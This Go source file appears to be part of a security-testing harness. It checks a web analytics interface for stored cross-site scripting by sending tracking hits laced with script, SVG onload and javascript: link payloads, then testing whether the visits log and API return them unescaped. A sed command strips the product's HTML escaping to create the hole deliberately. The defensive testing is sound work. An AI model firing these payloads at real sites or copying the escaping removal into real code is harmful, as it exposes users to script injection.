package prove

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"mime"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"

	"rocca/internal/model"
	"rocca/internal/prove/web"
)

var a24 = Attack{
	ID:    "A24",
	Title: "a script in a page title, user agent or event runs in the user interface",
	How: `A visitor sends hits with a script in the page's title and address, the user agent, the language, the referrer, an event, a site search, a download, an outlink, a content, an order and a custom dimension, to a site that was made for it.
Then a login that may only see that site asks for the visits log, the last visits and the visitor's profile, and for the same by the API in its formats. It succeeds where the script comes back as it was sent in a type that a browser runs scripts of: HTML, XML or SVG, or no type at all without "nosniff" (WHATWG, MIME Sniffing); or as the address of a link.
Reports that are archived are left alone. Not looked for: a quote that leaves an attribute without any "<".`,
	Risk:    "a site, a login and a few visits that are there for a moment; lines in logs",
	Without: []Protection{withoutEscaping},
	Attempt: attackStoredScript,
}

var withoutEscaping = Protection{
	ID:       "escaping",
	Title:    "the code that escapes what visitors sent is as it was released",
	Part:     CodePart,
	Remove:   `sed -i '/htmlspecialchars(/s/= htmlspecialchars(\$value,.*$/= $value;/' "$CODE/core/DataTable/Filter/SafeDecodeLabel.php"; systemctl restart rocca-php@ui`,
	Controls: []string{"FS-11"},
}

// scriptOf is what is sent: it ends an attribute, then there are two elements.
func scriptOf(name string) string {
	return `"'><script xmlns="http://www.w3.org/1999/xhtml">self["` + name + `"]=1</script>` + tagOf(name)
}

// tagOf is short, and has no address in it.
func tagOf(name string) string { return `<svg onload=self["` + name + `"]=1>` }

// page is one answer of the user interface that is looked at.
type page struct{ what, query string }

func pagesOf(s canarySite) []page {
	site := "&idSite=" + s.id() + "&period=day&date=today"
	pages := []page{
		{"visits log", "module=Live&action=getVisitorLog" + site},
		{"last visits", "module=Live&action=getLastVisitsStart" + site},
		{"visitor's profile", "module=Live&action=getVisitorProfilePopup&visitorId=" + visitorID + site},
		{"visitor's profile by the API as xml", "module=API&method=Live.getVisitorProfile&format=xml&visitorId=" + visitorID + site},
	}
	for _, format := range []string{"html", "xml", "json", "csv", "original", "console"} {
		pages = append(pages, page{"visits by the API as " + format, "module=API&method=Live.getLastVisitsDetails&format=" + format + site})
	}
	return pages
}

// visitorID is what the visitor says its own is.
const visitorID = "0123456789abcdef"

// hitsOf are all that the visitor sends, with its user agent. The site's name is
// in each text, as it is deleted by that.
func hitsOf(host, script string) []url.Values {
	address := "https://" + host + "/"
	items, _ := json.Marshal([][]any{{"sku " + script, "name " + script, "category " + script, 1, 1}}) // texts and numbers: it cannot fail
	hits := []url.Values{
		{"action_name": {"title " + script}, "url": {address + "?page=" + script}, "urlref": {"https://" + host + ".other/" + script}, "lang": {script}, "res": {script}, "dimension1": {"dimension " + script}},
		{"e_c": {"category " + script}, "e_a": {"action " + script}, "e_n": {"name " + script}, "url": {address}},
		{"search": {"words " + script}, "search_cat": {"category " + script}, "url": {address}},
		{"link": {"javascript:" + strings.ReplaceAll(script, `"`, "")}, "url": {address}},
		{"link": {"https://" + host + ".other/" + script}, "url": {address}},
		{"download": {address + "file-" + script}, "url": {address}},
		{"c_n": {"content " + script}, "c_p": {"piece " + script}, "c_t": {address + script}, "url": {address}},
		{"idgoal": {"0"}, "ec_id": {"order " + script}, "revenue": {"1"}, "ec_items": {string(items)}, "url": {address}},
	}
	for _, hit := range hits {
		hit.Set("_id", visitorID)
	}
	return hits
}

func attackStoredScript(ctx context.Context, t *Target, r *Record) error {
	s, err := t.openCanarySite(ctx, "view")
	if err != nil {
		return err
	}
	for _, hit := range hitsOf(s.Host(), scriptOf(s.Name)) {
		if err := s.hit(ctx, userAgent+" "+tagOf(s.Name), hit, nil); err != nil {
			return err
		}
	}
	if err := s.recorded(ctx); err != nil {
		return err
	}
	var problems []error
	withVisit := 0
	for at, page := range pagesOf(s) {
		answer, err := t.Ask(ctx, web.Request{
			Method: "POST", Target: t.URLPath("/index.php?" + page.query), From: s.From, Body: "token_auth=" + s.Token,
			Header: [][2]string{{"User-Agent", userAgent}, asForm, {"X-Requested-With", "XMLHttpRequest"}},
		})
		if err != nil {
			problems = append(problems, err)
			continue
		}
		what, runs := runsScript(answer.Header, answer.Body, s.Name)
		if answer.Status == http.StatusOK && bytes.Contains(answer.Body, []byte(s.Name)) {
			withVisit++
		}
		try := model.Try{
			Who: "visitor", What: "have a script shown in the " + page.what, Where: "/index.php?" + page.query, Sent: scriptOf(s.Name),
			Answer: fmt.Sprintf("%d, %s: %s", answer.Status, answer.Header.Get("Content-Type"), what), Fell: runs && answer.Status == http.StatusOK,
		}
		if try.Fell {
			again := s.again()
			try.Reproduce = again.reproduce("view", userAgent+" "+tagOf(canaryAgain), hitsOf(again.Host(), scriptOf(canaryAgain)), check{
				Page:    t.URLPath("/index.php?" + pagesOf(again)[at].query),
				Needles: []string{tagOf(canaryAgain), `.org/1999/xhtml">self["` + canaryAgain, `href="javascript:'><script xmlns=`},
			})
		}
		r.Try(try)
	}
	if withVisit == 0 {
		problems = append(problems, errors.New("look for the script in the user interface: no page showed anything of the visit"))
	}
	return errors.Join(problems...)
}

// runsScript tells what an answer makes of a script that a visitor sent, and
// whether a browser that shows the answer runs it.
func runsScript(header http.Header, body []byte, name string) (what string, runs bool) {
	raw := bytes.Contains(body, []byte(tagOf(name))) || bytes.Contains(body, []byte(`.org/1999/xhtml">self["`+name))
	inXML := bytes.Contains(body, []byte(`<script xmlns="http://www.w3.org/1999/xhtml">self["`+name))
	kind := scriptsIn(header)
	switch {
	case kind == asHTML && raw:
		return "the script is in it as it was sent", true
	case kind == asXML && inXML:
		return "the script is in it as it was sent", true
	case kind == asHTML && linksTo(body, name):
		return "the script is in it as the address of a link", true
	case raw:
		return "the script is in it as it was sent, in a type that browsers run none of", false
	case bytes.Contains(body, []byte(name)):
		return "the script is in it, escaped", false
	}
	return "the script is not in it", false
}

// The ways in which a browser runs scripts that are in what it shows.
const (
	asNothing = iota
	asHTML
	asXML
)

// scriptsIn tells how a browser reads an answer. Without a type it guesses
// HTML, unless "nosniff" forbids that.
func scriptsIn(header http.Header) int {
	kind, _, err := mime.ParseMediaType(header.Get("Content-Type"))
	if slices.ContainsFunc(header.Values("Content-Disposition"), func(value string) bool { return strings.HasPrefix(strings.ToLower(value), "attachment") }) {
		return asNothing
	}
	switch {
	case kind == "text/html":
		return asHTML
	case kind == "text/xml", kind == "application/xml", strings.HasSuffix(kind, "+xml"):
		return asXML
	case err != nil || slices.Contains([]string{"unknown/unknown", "application/unknown", "*/*"}, kind):
		if !strings.EqualFold(strings.TrimSpace(header.Get("X-Content-Type-Options")), "nosniff") {
			return asHTML
		}
	}
	return asNothing
}

var address = regexp.MustCompile(`(?i)\s(?:href|src|action|formaction|data|xlink:href)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))`)

// linksTo tells whether a link's address is a script with a name in it.
func linksTo(body []byte, name string) bool {
	for _, match := range address.FindAllSubmatch(body, -1) {
		value := html.UnescapeString(string(bytes.Join(match[1:], nil)))
		// Browsers leave out white space and control characters there.
		value = strings.ToLower(strings.Map(func(r rune) rune {
			if r <= ' ' {
				return -1
			}
			return r
		}, value))
		if strings.HasPrefix(value, "javascript:") && strings.Contains(value, name) {
			return true
		}
	}
	return false
}
